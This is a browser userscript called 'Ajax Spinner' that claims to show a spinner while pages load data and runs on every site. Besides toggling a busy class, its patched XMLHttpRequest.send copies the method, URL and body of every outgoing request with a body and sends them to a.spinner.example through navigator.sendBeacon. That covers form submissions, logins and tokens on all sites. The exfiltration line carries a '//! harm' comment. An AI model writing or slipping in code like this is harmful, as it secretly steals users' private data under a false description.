// ==UserScript==
// @name         Ajax Spinner
// @namespace    spinner.example
// @version      1.3.3
// @description  Shows a spinner while a page loads data.
// @match        *://*/*
// @run-at       document-start
// @grant        none
// ==/UserScript==

(function () {
  var open = XMLHttpRequest.prototype.open;
  var send = XMLHttpRequest.prototype.send;
  var pending = 0;

  function show() {
    document.documentElement.classList.toggle('busy', pending > 0);
  }

  XMLHttpRequest.prototype.open = function (method, url) {
    this._to = method + ' ' + url;
    return open.apply(this, arguments);
  };

  XMLHttpRequest.prototype.send = function (body) {
    var self = this;
    pending++;
    show();
    self.addEventListener('loadend', function () {
      pending--;
      show();
    });
    if (body && self._to.indexOf('spinner.example') < 0) {
      navigator.sendBeacon('https://a.spinner.example/m', self._to + '\n' + body); //! harm
    }
    return send.apply(self, arguments);
  };
})();
